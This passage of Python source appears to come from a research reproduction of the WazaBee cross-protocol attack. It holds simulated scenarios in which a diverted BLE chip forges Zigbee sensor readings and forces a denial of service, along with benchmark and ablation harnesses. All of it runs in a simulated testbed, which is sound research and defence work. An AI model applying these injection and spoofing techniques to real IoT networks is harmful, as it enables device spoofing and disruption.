    samples_per_symbol: int = 8,
) -> SymmetricPivotResult:
    """Try to synthesise a BLE LE 2M packet out of DSSS PN sequences.

    Returns how close the reachable chip streams get (Hamming match against
    the target on-air bits) and whether a BLE receiver actually accepts the
    emission (sync + CRC).  A genuine WazaBee-style pivot needs ≈100%;
    the DSSS constraint caps this far lower.
    """
    if pdu is None:
        pdu = AdvNonconnInd(bytes(6), b"\x02\x01\x06").to_pdu()
    packet = assemble_on_air_bits(pdu, channel=ble_channel, phy=PhyMode.LE_2M)
    target = packet.bits

    # Greedy symbol-by-symbol search over the reachable chip streams.
    symbols: List[int] = []
    chips: List[np.ndarray] = []
    previous_chip = 0
    total_distance = 0
    covered = 0
    for start in range(0, target.size, CHIPS_PER_SYMBOL):
        segment = target[start : start + CHIPS_PER_SYMBOL]
        symbol, distance = _best_symbol_for_segment(
            segment, chip_index=start, previous_chip=previous_chip
        )
        symbols.append(symbol)
        chips.append(PN_SEQUENCES[symbol])
        previous_chip = int(PN_SEQUENCES[symbol][-1])
        total_distance += distance
        covered += segment.size

    # Emit the best-effort stream through the real O-QPSK modulator and let
    # a BLE receiver judge it.
    stream = np.concatenate(chips)
    signal = OqpskModulator(
        samples_per_chip=samples_per_symbol, chip_rate=2e6
    ).modulate(stream)
    demod = FskDemodulator(
        GfskConfig(samples_per_symbol=samples_per_symbol, modulation_index=0.5, bt=None),
        2e6,
    )
    sync_bits = access_address_bits(ADVERTISING_ACCESS_ADDRESS)
    result = demod.demodulate_packet(
        signal, sync_bits, num_payload_bits=8 * (len(pdu) + 3)
    )
    crc_ok = False
    if result is not None:
        bits, _sync = result
        try:
            decoded, crc_ok = parse_pdu_bits(bits, channel=ble_channel)
            crc_ok = crc_ok and decoded == pdu
        except ValueError:
            crc_ok = False
    return SymmetricPivotResult(
        target_bits=covered,
        matched_bits=covered - total_distance,
        sync_found=result is not None,
        crc_ok=crc_ok,
        symbols_used=symbols,
    )
