"""End-to-end runs of the paper's attack scenarios (§VI, Figures 4–5).

Both harnesses stand up the §VI-A experimental setup — the XBee network
with PAN 0x1234 on channel 14 (sensor 0x0063 reporting every two seconds to
coordinator 0x0042) — and then launch the respective attacker.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

import numpy as np

from repro.attacks.scenario_a import SmartphoneInjectionAttack
from repro.attacks.scenario_b import AttackPhase, TrackerAttack
from repro.chips.nrf51822 import Nrf51822
from repro.chips.smartphone import SmartphoneBle
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, build_data
from repro.experiments.environment import Testbed, TestbedProfile, build_testbed
from repro.zigbee.network import CoordinatorNode, SensorNode
from repro.zigbee.xbee import SensorReading, XBEE_DEFAULTS

__all__ = [
    "ZigbeeTestNetwork",
    "ScenarioAResult",
    "run_scenario_a",
    "ScenarioBResult",
    "run_scenario_b",
]

_PAN = XBEE_DEFAULTS.pan_id
SENSOR_ADDRESS = Address(pan_id=_PAN, address=0x0063)
COORDINATOR_ADDRESS = Address(pan_id=_PAN, address=0x0042)


@dataclass
class ZigbeeTestNetwork:
    """The §VI-A domotic network."""

    sensor: SensorNode
    coordinator: CoordinatorNode

    def start(self) -> None:
        self.sensor.start()
        self.coordinator.start()


def build_zigbee_network(
    testbed: Testbed,
    report_interval_s: float = 2.0,
    security_key: Optional[bytes] = None,
) -> ZigbeeTestNetwork:
    """Stand up the target network; *security_key* enables the §VII
    counter-measure (AES-CCM* link-layer security on both nodes)."""
    from repro.dot15d4.security import SecurityContext

    def context() -> Optional[SecurityContext]:
        return SecurityContext(key=security_key) if security_key else None

    coordinator = CoordinatorNode(
        testbed.medium,
        address=COORDINATOR_ADDRESS,
        position=(testbed.profile.distance_m, 0.0),
        rng=testbed.device_rng(10),
        security=context(),
    )
    sensor = SensorNode(
        testbed.medium,
        address=SENSOR_ADDRESS,
        coordinator=COORDINATOR_ADDRESS,
        position=(testbed.profile.distance_m, 1.5),
        report_interval_s=report_interval_s,
        value_source=lambda: 21,
        rng=testbed.device_rng(11),
        security=context(),
    )
    return ZigbeeTestNetwork(sensor=sensor, coordinator=coordinator)


# ---------------------------------------------------------------------------
# Scenario A
# ---------------------------------------------------------------------------


@dataclass
class ScenarioAResult:
    """Outcome of the smartphone injection run."""

    events_total: int
    events_on_target: int
    injected_received: int
    forged_entries: List[int] = field(default_factory=list)

    @property
    def hit_rate(self) -> float:
        return self.events_on_target / self.events_total if self.events_total else 0.0


def run_scenario_a(
    duration_s: float = 60.0,
    zigbee_channel: int = 14,
    forged_value: int = 1337,
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
) -> ScenarioAResult:
    """Inject forged sensor readings from the smartphone (Figure 4).

    The coordinator's display log is the observable: every forged reading
    that appears there was carried by an extended advertisement whose CSA#2
    draw hit the right channel *and* survived the air interface.
    """
    testbed = build_testbed(profile, seed=seed)
    network = build_zigbee_network(testbed)
    network.start()
    phone = SmartphoneBle(
        testbed.medium,
        position=testbed.attacker_position,
        rng=testbed.device_rng(20),
    )
    forged = build_data(
        source=SENSOR_ADDRESS,
        destination=COORDINATOR_ADDRESS,
        payload=SensorReading(counter=0xBEEF, value=forged_value).to_payload(),
        sequence_number=0xA5,
        ack_request=False,
    )
    attack = SmartphoneInjectionAttack(
        phone, zigbee_channel=zigbee_channel, frame=forged
    )
    attack.start(interval_s=0.1)
    testbed.scheduler.run(duration_s)
    attack.stop()
    forged_entries = [
        entry.counter
        for entry in network.coordinator.display
        if entry.value == forged_value
    ]
    return ScenarioAResult(
        events_total=attack.events_total,
        events_on_target=attack.events_on_target,
        injected_received=len(forged_entries),
        forged_entries=forged_entries,
    )


# ---------------------------------------------------------------------------
# Scenario B
# ---------------------------------------------------------------------------


@dataclass
class ScenarioBResult:
    """Outcome of the tracker attack run."""

    final_phase: AttackPhase
    network_channel: Optional[int]
    sensor_channel_after: int
    legitimate_entries: int
    spoofed_entries: int
    log: List[str] = field(default_factory=list)


def run_scenario_b(
    duration_s: float = 40.0,
    dos_channel: int = 26,
    fake_value: int = 99,
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
    security_key: Optional[bytes] = None,
) -> ScenarioBResult:
    """Run the four-stage tracker attack (Figure 5).

    Observables: the sensor ends up parked on *dos_channel* (denial of
    service), and the coordinator's display fills with the attacker's
    *fake_value* readings.  With *security_key* set the network runs the
    §VII cryptographic counter-measure and the injection steps should fail.
    """
    testbed = build_testbed(profile, seed=seed)
    network = build_zigbee_network(testbed, security_key=security_key)
    network.start()
    tracker = Nrf51822(
        testbed.medium,
        position=testbed.attacker_position,
        rng=testbed.device_rng(30),
    )
    firmware = WazaBeeFirmware(tracker, testbed.scheduler)
    attack = TrackerAttack(
        firmware,
        target_pan_id=_PAN,
        dos_channel=dos_channel,
        fake_value=fake_value,
    )
    attack.run()
    testbed.scheduler.run(duration_s)
    legitimate = [e for e in network.coordinator.display if e.value != fake_value]
    spoofed = [e for e in network.coordinator.display if e.value == fake_value]
    return ScenarioBResult(
        final_phase=attack.phase,
        network_channel=attack.network.channel if attack.network else None,
        sensor_channel_after=network.sensor.radio.channel,
        legitimate_entries=len(legitimate),
        spoofed_entries=len(spoofed),
        log=[f"t={e.time:8.3f}s [{e.phase.value}] {e.message}" for e in attack.log],
    )
