"""The §V experimental environment.

The paper's benchmarks place the device under test and the reference Zigbee
transceiver (AVR RZUSBStick) three metres apart, in a lab where WiFi
networks occupy channels 6 and 11 — the cause of the small per-channel dips
in Table III.  :func:`build_testbed` reproduces that environment with
seedable randomness.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Tuple

import numpy as np

from repro.faults import FaultInjector, FaultPlan
from repro.radio.interference import WifiInterferer
from repro.radio.medium import PropagationModel, RfMedium
from repro.radio.scheduler import Scheduler

__all__ = ["TestbedProfile", "Testbed", "build_testbed"]


@dataclass(frozen=True)
class TestbedProfile:
    """Tunable environment parameters (calibrated for Table III's shape)."""

    distance_m: float = 3.0
    tx_power_dbm: float = 0.0
    noise_floor_dbm: float = -100.0
    path_loss_exponent: float = 2.5
    shadowing_sigma_db: float = 4.0
    wifi_channels: Tuple[int, ...] = (6, 11)
    wifi_power_dbm: float = -37.0
    wifi_duty_cycle: float = 0.06
    sample_rate: float = 16e6


@dataclass
class Testbed:
    """A constructed environment, ready for devices to attach."""

    scheduler: Scheduler
    medium: RfMedium
    profile: TestbedProfile
    rng: np.random.Generator

    @property
    def attacker_position(self) -> Tuple[float, float]:
        return (0.0, 0.0)

    @property
    def reference_position(self) -> Tuple[float, float]:
        return (self.profile.distance_m, 0.0)

    def device_rng(self, stream: int) -> np.random.Generator:
        """Derive an independent per-device generator."""
        seed_seq = np.random.SeedSequence(
            entropy=int(self.rng.integers(0, 2**63)), spawn_key=(stream,)
        )
        return np.random.default_rng(seed_seq)


def build_testbed(
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
    fault_plan: Optional[FaultPlan] = None,
) -> Testbed:
    """Stand up the paper's bench environment.

    *fault_plan* optionally degrades the bench with scripted impairments
    (see :mod:`repro.faults`) — the knob behind the ``--chaos`` CLI flag.
    """
    profile = profile or TestbedProfile()
    scheduler = Scheduler()
    rng = np.random.default_rng(seed)
    interferers = [
        WifiInterferer(
            channel=ch,
            power_dbm=profile.wifi_power_dbm,
            duty_cycle=profile.wifi_duty_cycle,
        )
        for ch in profile.wifi_channels
    ]
    medium = RfMedium(
        scheduler,
        sample_rate=profile.sample_rate,
        noise_floor_dbm=profile.noise_floor_dbm,
        propagation=PropagationModel(
            exponent=profile.path_loss_exponent,
            shadowing_sigma_db=profile.shadowing_sigma_db,
        ),
        interferers=interferers,
        rng=np.random.default_rng(seed + 1),
        seed=seed + 1,
    )
    if fault_plan is not None and not fault_plan.is_clean():
        medium.install_fault_injector(FaultInjector(fault_plan))
    return Testbed(scheduler=scheduler, medium=medium, profile=profile, rng=rng)
