"""Experiment harnesses regenerating the paper's tables and figures.

Each module maps to an artefact of the paper (see DESIGN.md §4):

* :mod:`repro.experiments.environment` — the §V testbed: attacker and
  RZUSBStick 3 m apart, WiFi interference on channels 6 and 11.
* :mod:`repro.experiments.table3` — Table III: per-channel success rates of
  the reception and transmission primitives on both chips.
* :mod:`repro.experiments.figures` — data series behind Figures 1–3.
* :mod:`repro.experiments.scenarios` — end-to-end runs of Scenarios A and B
  (Figures 4 and 5).
* :mod:`repro.experiments.ablations` — parameter sweeps over the design
  choices (Hamming threshold, Gaussian BT, modulation index, ESB fallback).
"""

from repro.experiments.environment import Testbed, TestbedProfile, build_testbed
from repro.experiments.fleet import (
    FleetCampaignResult,
    FleetNodeReport,
    format_fleet_report,
    run_fleet_campaign,
)
from repro.experiments.table3 import (
    ChannelResult,
    Table3Result,
    run_table3,
    run_table3_cell,
)

__all__ = [
    "TestbedProfile",
    "Testbed",
    "build_testbed",
    "ChannelResult",
    "Table3Result",
    "run_table3",
    "run_table3_cell",
    "FleetCampaignResult",
    "FleetNodeReport",
    "format_fleet_report",
    "run_fleet_campaign",
]
