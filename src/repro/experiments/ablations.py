"""Ablation studies over WazaBee's design choices (DESIGN.md §5).

Each function isolates one knob the paper discusses:

* :func:`gaussian_bt_sweep` — how much error the GMSK≈MSK approximation
  (§IV-B1: "if we neglect the effect of the Gaussian filter") actually
  introduces, as a function of the BT product.
* :func:`modulation_index_sweep` — BLE tolerates h ∈ [0.45, 0.55]; the MSK
  equivalence is exact only at h = 0.5.
* :func:`hamming_threshold_sweep` — decoding robustness vs the maximum
  accepted Hamming distance under synthetic chip-error rates (§IV-D's
  rationale for Hamming-distance despreading).
* :func:`esb_fallback_comparison` — LE 2M vs the nRF51822's Enhanced
  ShockBurst fallback ("a direct impact on the reception quality", §VI-C).
* :func:`whitening_strategy_check` — disabling whitening vs pre-inverting
  it must produce identical on-air bits (§IV-D).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.ble.whitening import whiten
from repro.core.encoding import frame_to_msk_bits
from repro.core.tables import default_table
from repro.dot15d4.frames import Address, build_data
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.msk import chips_to_transitions, transitions_to_chips
from repro.experiments.environment import TestbedProfile, build_testbed
from repro.phy.ieee802154 import PN_SEQUENCES

__all__ = [
    "gaussian_bt_sweep",
    "modulation_index_sweep",
    "hamming_threshold_sweep",
    "esb_fallback_comparison",
    "whitening_strategy_check",
]


def _chip_error_rate(
    bt: Optional[float], modulation_index: float, num_chips: int, seed: int
) -> float:
    """Chip error rate of GFSK TX → ideal MSK RX, no channel noise."""
    rng = np.random.default_rng(seed)
    chips = rng.integers(0, 2, num_chips).astype(np.uint8)
    transitions = chips_to_transitions(chips, previous_chip=0)
    modulator = FskModulator(
        GfskConfig(samples_per_symbol=8, modulation_index=modulation_index, bt=bt),
        symbol_rate=2e6,
    )
    demodulator = FskDemodulator(
        GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=None),
        symbol_rate=2e6,
    )
    sig = modulator.modulate(transitions)
    disc = demodulator.discriminate(sig)
    sync = demodulator.find_sync(disc, transitions[:64], threshold=0.3)
    if sync is None:
        return 1.0
    bits = demodulator.decide_bits(
        disc,
        sync.start,
        min(transitions.size, demodulator.available_bits(disc, sync.start)),
        dc=sync.dc_offset / demodulator.frequency_deviation,
    )
    recovered = transitions_to_chips(bits, start_index=0, previous_chip=0)
    n = recovered.size
    return float(np.count_nonzero(recovered != chips[:n]) / n)


def gaussian_bt_sweep(
    bt_values: Sequence[Optional[float]] = (0.3, 0.5, 0.7, 1.0, None),
    num_chips: int = 4096,
    seed: int = 0,
) -> Dict[str, float]:
    """Chip error rate vs Gaussian BT (``None`` = unfiltered MSK)."""
    return {
        ("MSK" if bt is None else f"BT={bt}"): _chip_error_rate(
            bt, 0.5, num_chips, seed
        )
        for bt in bt_values
    }


def modulation_index_sweep(
    h_values: Sequence[float] = (0.45, 0.48, 0.5, 0.52, 0.55),
    num_chips: int = 4096,
    seed: int = 0,
) -> Dict[float, float]:
    """Chip error rate vs modulation index at BT = 0.5."""
    return {h: _chip_error_rate(0.5, h, num_chips, seed) for h in h_values}


def hamming_threshold_sweep(
    chip_error_rates: Sequence[float] = (0.0, 0.05, 0.1, 0.2, 0.3),
    trials: int = 2000,
    seed: int = 0,
) -> Dict[float, float]:
    """Symbol decode accuracy vs synthetic chip error rate.

    Flips each of the 31 MSK bits of a random symbol independently and asks
    the correspondence table for the nearest symbol; reports the fraction
    decoded correctly.  Shows why minimum-distance despreading (rather than
    exact matching) is load-bearing.
    """
    table = default_table()
    rng = np.random.default_rng(seed)
    results: Dict[float, float] = {}
    for rate in chip_error_rates:
        correct = 0
        for _ in range(trials):
            symbol = int(rng.integers(0, 16))
            block = table.msk_sequence(symbol).copy()
            flips = rng.random(block.size) < rate
            block ^= flips.astype(np.uint8)
            decoded, _distance = table.decode_block(block)
            correct += int(decoded == symbol)
        results[rate] = correct / trials
    return results


@dataclass
class FallbackComparison:
    """LE 2M vs ESB fallback reception quality."""

    le2m_valid_rate: float
    esb_valid_rate: float
    frames: int


def esb_fallback_comparison(
    frames: int = 50,
    channel: int = 14,
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
) -> FallbackComparison:
    """Reception success of nRF52832 (LE 2M) vs nRF51822 (ESB fallback)."""
    from repro.chips import Nrf51822, Nrf52832, RzUsbStick
    from repro.core.firmware import WazaBeeFirmware

    rates = {}
    for label, factory in (("le2m", Nrf52832), ("esb", Nrf51822)):
        testbed = build_testbed(profile, seed=seed)
        chip = factory(
            testbed.medium,
            position=testbed.attacker_position,
            rng=testbed.device_rng(1),
        )
        reference = RzUsbStick(
            testbed.medium,
            position=testbed.reference_position,
            rng=testbed.device_rng(2),
        )
        reference.set_channel(channel)
        firmware = WazaBeeFirmware(chip, testbed.scheduler)
        valid = 0
        seen: List[bytes] = []
        firmware.start_sniffer(
            channel, lambda f, d: seen.append(d.psdu) if d.fcs_ok else None
        )
        src = Address(pan_id=0x1234, address=1)
        dst = Address(pan_id=0x1234, address=2)
        for i in range(frames):
            seen.clear()
            frame = build_data(src, dst, bytes([0x42, i & 0xFF]), sequence_number=i & 0xFF)
            reference.transmit_frame(frame)
            testbed.scheduler.run(2e-3)
            valid += int(frame.to_bytes() in seen)
        rates[label] = valid / frames
    return FallbackComparison(
        le2m_valid_rate=rates["le2m"], esb_valid_rate=rates["esb"], frames=frames
    )


def whitening_strategy_check(
    channel_index: int = 8, psdu: bytes = b"\x01\x02\x03\x04\x05\x06\x07"
) -> Tuple[np.ndarray, np.ndarray, bool]:
    """Disabled whitening vs pre-inversion: identical on-air bits?

    Returns ``(bits_disabled, bits_pre_inverted_then_whitened, equal)``.
    """
    raw = frame_to_msk_bits(psdu)
    pre_inverted = whiten(raw, channel_index)
    on_air = whiten(pre_inverted, channel_index)
    return raw, on_air, bool(np.array_equal(raw, on_air))


@dataclass
class DataRateCheck:
    """Outcome of the §IV-D requirement-1 experiment."""

    le2m_received: int
    le1m_received: int
    frames: int


def data_rate_requirement_check(
    frames: int = 10, channel: int = 14, seed: int = 0
) -> DataRateCheck:
    """§IV-D requirement 1: the 2 Mbit/s data rate is load-bearing.

    Transmits WazaBee frames from an LE 2M radio and from an LE 1M radio
    (same bits, half the symbol rate); the 802.15.4 receiver only accepts
    the former — at 1 Mbit/s every chip period is stretched to 2·Tc and the
    chip clock never matches.
    """
    from repro.chips import Nrf52832, RzUsbStick
    from repro.core.firmware import WazaBeeFirmware

    results = {}
    for label, use_2m in (("le2m", True), ("le1m", False)):
        testbed = build_testbed(seed=seed)
        chip = Nrf52832(
            testbed.medium,
            position=testbed.attacker_position,
            rng=testbed.device_rng(1),
        )
        reference = RzUsbStick(
            testbed.medium,
            position=testbed.reference_position,
            rng=testbed.device_rng(2),
        )
        reference.set_channel(channel)
        received: List[bytes] = []
        reference.start_rx(
            lambda r: received.append(r.psdu) if r.fcs_ok else None
        )
        firmware = WazaBeeFirmware(chip, testbed.scheduler)
        firmware.transmitter.configure(channel)
        if not use_2m:
            chip.set_data_rate_1m()  # violate the requirement
        count = 0
        src = Address(pan_id=0x1234, address=1)
        dst = Address(pan_id=0x1234, address=2)
        for i in range(frames):
            frame = build_data(src, dst, bytes([i]), sequence_number=i)
            firmware.transmitter.transmit(frame)
            testbed.scheduler.run(2e-3)
            count += int(frame.to_bytes() in received)
            received.clear()
        results[label] = count
    return DataRateCheck(
        le2m_received=results["le2m"],
        le1m_received=results["le1m"],
        frames=frames,
    )
