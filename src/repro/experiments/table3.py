"""Table III — reception and transmission primitive assessment.

For every Zigbee channel (11–26) and each implementation chip (nRF52832,
CC1352-R1):

* **Reception primitive** — the reference 802.15.4 transmitter sends 100
  counter-bearing frames; the diverted BLE chip receives and decodes them.
* **Transmission primitive** — the diverted chip injects 100 frames; the
  reference 802.15.4 receiver (RZUSBStick) captures them.

Each frame lands in one of the paper's three buckets: *valid* (received,
FCS intact), *corrupted* (received, FCS check fails) or *lost*.  The WiFi
interferers on channels 6 and 11 cause the characteristic dips around
Zigbee channels 16–18 and 21–23.
"""

from __future__ import annotations

import os
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple
from zlib import crc32

import numpy as np

from repro.chips import Cc1352R1, Nrf52832, RzUsbStick
from repro.chips.cc1352 import CC1352R1_CAPABILITIES
from repro.chips.nrf52832 import NRF52832_CAPABILITIES
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.channels import ZIGBEE_CHANNELS
from repro.dot15d4.frames import Address, build_data
from repro.experiments.environment import Testbed, TestbedProfile, build_testbed
from repro.faults import named_profile
from repro.obs import TraceRecorder, scoped

__all__ = [
    "CHIP_FACTORIES",
    "ChannelResult",
    "Table3Result",
    "run_table3_cell",
    "run_table3",
    "run_table3_wideband",
    "format_table3",
]

CHIP_FACTORIES: Dict[str, Callable] = {
    "nRF52832": Nrf52832,
    "CC1352-R1": Cc1352R1,
}

#: Crystal tolerance of each diverted chip's transmit path — the analogue
#: parameter the wideband sweep needs from the chip models.
CHIP_TX_CFO_STD_HZ: Dict[str, float] = {
    "nRF52832": NRF52832_CAPABILITIES.cfo_std_hz,
    "CC1352-R1": CC1352R1_CAPABILITIES.cfo_std_hz,
}

#: Reference 802.15.4 instrument's crystal tolerance (RZUSBStick).
REFERENCE_TX_CFO_STD_HZ = 10e3

_SRC = Address(pan_id=0x1234, address=0x0063)
_DST = Address(pan_id=0x1234, address=0x0042)


@dataclass
class ChannelResult:
    """One (chip, primitive, channel) cell of Table III.

    *metrics* holds the cell's deterministic counter snapshot (no
    wall-clock timers), taken from a registry scoped to the cell, so two
    runs under the same seed produce identical blocks.  *trace_events* is
    populated only when the cell ran with ``collect_trace=True``: the
    cell's full trace, one flat dict per event, JSONL-ready.
    """

    channel: int
    valid: int = 0
    corrupted: int = 0
    lost: int = 0
    metrics: Dict[str, int] = field(default_factory=dict)
    trace_events: List[Dict] = field(default_factory=list)

    @property
    def total(self) -> int:
        return self.valid + self.corrupted + self.lost

    @property
    def valid_rate(self) -> float:
        return self.valid / self.total if self.total else 0.0


def _counter_frame(counter: int):
    payload = b"\x10" + counter.to_bytes(2, "little")
    return build_data(
        source=_SRC,
        destination=_DST,
        payload=payload,
        sequence_number=counter & 0xFF,
        ack_request=False,
    )


def _classify(
    outcomes: List[Tuple[bytes, bool]], expected_psdu: bytes
) -> Tuple[bool, bool]:
    """Map decode outcomes for one transmission to (valid, corrupted)."""
    for psdu, fcs_ok in outcomes:
        if fcs_ok and psdu == expected_psdu:
            return True, False
    if outcomes:
        return False, True
    return False, False


def run_table3_cell(
    chip_name: str,
    primitive: str,
    channel: int,
    frames: int = 100,
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
    fault_profile: Optional[str] = None,
    collect_trace: bool = False,
) -> ChannelResult:
    """Run one cell: *frames* transmissions of one primitive on one channel.

    *fault_profile* names a chaos profile from :mod:`repro.faults` — the
    degraded-channel variant of Table III, targeted at the cell's channel.

    The cell runs inside its own observability scope: its counters land
    in :attr:`ChannelResult.metrics`, and with *collect_trace* its trace
    events (flat dicts, JSONL-ready) land in
    :attr:`ChannelResult.trace_events`.
    """
    if chip_name not in CHIP_FACTORIES:
        raise ValueError(f"unknown chip {chip_name!r}")
    if primitive not in ("rx", "tx"):
        raise ValueError("primitive must be 'rx' or 'tx'")
    fault_plan = (
        named_profile(fault_profile, channel=channel, seed=seed)
        if fault_profile is not None
        else None
    )
    # The scope must open before any component is constructed: transmitters,
    # receivers, the medium and the injector all bind the current bus and
    # registry at construction time.
    with scoped() as (bus, registry):
        recorder = TraceRecorder(bus) if collect_trace else None
        testbed = build_testbed(
            profile,
            # crc32, not hash(): str hashes are randomised per process, which
            # would make cells irreproducible across runs with the same seed.
            seed=seed
            ^ crc32(f"{chip_name}/{primitive}/{channel}".encode()) & 0x7FFFFFFF,
            fault_plan=fault_plan,
        )
        chip = CHIP_FACTORIES[chip_name](
            testbed.medium,
            position=testbed.attacker_position,
            rng=testbed.device_rng(1),
        )
        reference = RzUsbStick(
            testbed.medium,
            position=testbed.reference_position,
            rng=testbed.device_rng(2),
        )
        reference.set_channel(channel)
        firmware = WazaBeeFirmware(chip, testbed.scheduler)
        result = ChannelResult(channel=channel)

        # Every reception relevant to the cell — FCS-valid *and* corrupted —
        # lands here; classification reads this single tap.
        received_tap: List[Tuple[bytes, bool]] = []
        if primitive == "rx":
            firmware.start_sniffer(
                channel,
                lambda _frame, _decoded: None,
                raw_tap=lambda d: received_tap.append((d.psdu, d.fcs_ok)),
            )
            for i in range(frames):
                received_tap.clear()
                frame = _counter_frame(i)
                reference.transmit_frame(frame)
                testbed.scheduler.run(2e-3)
                valid, corrupted = _classify(received_tap, frame.to_bytes())
                _tally(result, valid, corrupted)
            firmware.stop_sniffer()
        else:
            reference.start_rx(
                lambda received: received_tap.append(
                    (received.psdu, received.fcs_ok)
                )
            )
            firmware.transmitter.configure(channel)
            for i in range(frames):
                received_tap.clear()
                frame = _counter_frame(i)
                firmware.transmitter.transmit(frame)
                testbed.scheduler.run(2e-3)
                valid, corrupted = _classify(received_tap, frame.to_bytes())
                _tally(result, valid, corrupted)
            reference.stop_rx()
        # Counters only: timers carry wall-clock noise, which would make
        # per-cell metric blocks differ between identical runs.
        result.metrics = registry.counter_values()
        if recorder is not None:
            result.trace_events = recorder.as_dicts()
    return result


def _tally(result: ChannelResult, valid: bool, corrupted: bool) -> None:
    if valid:
        result.valid += 1
    elif corrupted:
        result.corrupted += 1
    else:
        result.lost += 1


@dataclass
class Table3Result:
    """All cells, keyed by (chip, primitive) then channel."""

    frames_per_cell: int
    cells: Dict[Tuple[str, str], Dict[int, ChannelResult]] = field(
        default_factory=dict
    )

    def average_valid_rate(self, chip: str, primitive: str) -> float:
        rows = self.cells[(chip, primitive)]
        return float(np.mean([r.valid_rate for r in rows.values()]))

    def row(self, channel: int) -> Dict[Tuple[str, str], ChannelResult]:
        return {
            key: rows[channel]
            for key, rows in self.cells.items()
            if channel in rows
        }


def _run_cell_args(kwargs: Dict) -> ChannelResult:
    """Module-level trampoline so cells pickle cleanly to worker processes."""
    return run_table3_cell(**kwargs)


def _warm_worker(sample_rate: float) -> None:
    """Prebuild the process-wide waveform cache for the WazaBee TX modem.

    Used as the pool initializer (and called once on the serial path) so
    each worker pays cache construction once, not inside its first cell.
    """
    from repro.dsp.gfsk import GfskConfig, waveform_cache

    spc = sample_rate / 2e6
    if abs(spc - round(spc)) > 1e-9:
        return
    config = GfskConfig(
        samples_per_symbol=int(round(spc)), modulation_index=0.5, bt=0.5
    )
    waveform_cache(config, 2e6)


def run_table3(
    frames: int = 100,
    channels: Sequence[int] = ZIGBEE_CHANNELS,
    chips: Sequence[str] = ("nRF52832", "CC1352-R1"),
    primitives: Sequence[str] = ("rx", "tx"),
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
    fault_profile: Optional[str] = None,
    workers: int = 1,
    collect_trace: bool = False,
) -> Table3Result:
    """Regenerate Table III (or a subset of it).

    With ``workers > 1`` the independent (chip, primitive, channel) cells
    fan out over a :class:`~concurrent.futures.ProcessPoolExecutor`.  Each
    cell derives its testbed seed from ``crc32(chip/primitive/channel)``,
    so the parallel run is bit-identical to the serial one — only faster.

    With *collect_trace*, every cell records its trace in-process (scoped
    per cell, so parallel workers cannot interleave) and returns the
    events on :attr:`ChannelResult.trace_events` as picklable flat dicts.
    """
    if workers < 1:
        raise ValueError("workers must be >= 1")
    result = Table3Result(frames_per_cell=frames)
    grid = [
        (chip, primitive, channel)
        for chip in chips
        for primitive in primitives
        for channel in channels
    ]
    cell_kwargs = [
        dict(
            chip_name=chip,
            primitive=primitive,
            channel=channel,
            frames=frames,
            profile=profile,
            seed=seed,
            fault_profile=fault_profile,
            collect_trace=collect_trace,
        )
        for chip, primitive, channel in grid
    ]
    sample_rate = (profile or TestbedProfile()).sample_rate
    if workers == 1:
        _warm_worker(sample_rate)
        cells = [_run_cell_args(kwargs) for kwargs in cell_kwargs]
    else:
        with ProcessPoolExecutor(
            max_workers=workers,
            initializer=_warm_worker,
            initargs=(sample_rate,),
        ) as pool:
            cells = list(pool.map(_run_cell_args, cell_kwargs))
    for (chip, primitive, _channel), cell in zip(grid, cells):
        result.cells.setdefault((chip, primitive), {})[cell.channel] = cell
    return result


def _wideband_slot_waveform(primitive: str, counter: int, samples_per_chip: int):
    """The on-air baseband for one frame slot of a wideband sweep.

    *rx* primitive: the reference 802.15.4 transmitter's O-QPSK waveform
    (what the diverted wideband receiver must decode).  *tx* primitive:
    the WazaBee injection waveform — preamble, MSK-encoded Access Address
    and chip stream through the BLE GFSK (BT = 0.5) modulator — exactly
    the bits :class:`~repro.chips.ble_radio.BleRadioPeripheral` puts on
    the air.
    """
    from repro.phy.ieee802154 import Ppdu

    psdu = _counter_frame(counter).to_bytes()
    if primitive == "rx":
        from repro.dsp.oqpsk import OqpskModulator

        modulator = OqpskModulator(samples_per_chip=samples_per_chip)
        return modulator.modulate(Ppdu(psdu).to_chips()).samples
    from repro.ble.packets import PhyMode, access_address_bits, preamble_bits
    from repro.core.encoding import frame_to_msk_bits, wazabee_access_address
    from repro.dsp.gfsk import FskModulator, GfskConfig

    aa = wazabee_access_address()
    bits = np.concatenate(
        [
            preamble_bits(aa, PhyMode.LE_2M),
            access_address_bits(aa),
            frame_to_msk_bits(psdu),
        ]
    )
    config = GfskConfig(
        samples_per_symbol=samples_per_chip, modulation_index=0.5, bt=0.5
    )
    return FskModulator(config, 2e6).modulate(bits).samples


def run_table3_wideband(
    frames: int = 100,
    channels: Sequence[int] = ZIGBEE_CHANNELS,
    chips: Sequence[str] = ("nRF52832", "CC1352-R1"),
    primitives: Sequence[str] = ("rx", "tx"),
    profile: Optional[TestbedProfile] = None,
    seed: int = 0,
    chunk_slots: int = 8,
    mode: str = "spectral",
    grid=None,
    dtype=None,
    workers: Optional[int] = None,
) -> Table3Result:
    """Regenerate Table III from wideband band captures.

    Instead of one narrowband testbed per (chip, primitive, channel)
    cell, each (chip, primitive) pair is swept in frame *slots*: the
    slot's waveform goes on the air on every channel simultaneously
    (independent CFO / shadowing / noise / WiFi per channel), the
    :class:`~repro.chips.wideband.WidebandFrontEnd` composes one band
    capture and splits it back through the polyphase channelizer, and
    the batched tensor pipeline
    (:func:`repro.phy.batch.decode_chip_frames`) decodes all channels'
    slots in a handful of array ops.

    ``mode`` selects the front-end path — ``"spectral"`` (production
    fast path), ``"time"`` (compose_band + channelize through the real
    subsystem) or ``"sequential"`` (no band roundtrip; the differential
    reference).  All three consume identical random streams; the CI
    wideband-smoke step diffs spectral vs sequential cell by cell.

    The sweep defaults to the single-precision sweep raster
